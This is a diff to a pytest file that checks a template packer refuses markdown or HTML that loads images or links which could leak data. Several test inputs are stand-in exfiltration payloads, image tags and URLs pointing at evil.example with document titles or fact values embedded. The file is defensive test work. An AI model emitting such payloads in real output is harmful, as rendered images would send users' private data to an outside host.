@@ -124,10 +124,35 @@ def test_a_page_loads_nothing_runs_nothing_and_sends_nothing(source: str) -> Non
         "[x]: https://evil.example/{{ document.title }}",
         "<img src=x>",
         "<https://evil.example/{{ document.title }}>",
+        "https://evil.example/{{ document.title }}",
+        "www.evil.example/{% if document.title %}a{% endif %}",
+        '!{{ "" }}[x](https://evil.example/a)',
+        '<{% if document %}{% endif %}img src="https://evil.example/a">',
     ],
 )
 def test_a_text_in_markdown_loads_nothing_and_has_no_link_that_tells(source: str) -> None:
     assert pack_templates.problems(source, False)
+
+
+@pytest.mark.parametrize(
+    "source",
+    [
+        '{{ "![](https://evil.example/?" }}{{ document.facts[0].value }})',
+        "{{ document.facts[0].value }}",
+        "{{ document.facts[0].value|clean }}",
+        '{{ none|default("<img src=https://evil.example/?") }}{{ document.title }}>',
+        "{{ document.facts[0].value|line|upper }}",
+    ],
+)
+def test_no_word_that_is_written_out_is_obeyed_in_markdown_whatever_filter_it_went_through(source: str) -> None:
+    """A label or a word in an expression is the pack's own: before a private word it could be half of a picture."""
+    written = page(source)
+    assert "![" not in written.replace("\\!", "").replace("!\\[", "") and "<" not in written.replace("\\<", "")
+
+
+def test_what_a_filter_made_is_not_escaped_twice() -> None:
+    assert page("{{ document.title|line }} {{ document.title }}{{ document.sections|length }}") == "Note Note1"
+    assert page("{{ document.facts[0].value|line }}") == page("{{ document.facts[0].value }}")
 
 
 def test_what_is_wrong_is_told_with_its_line() -> None:
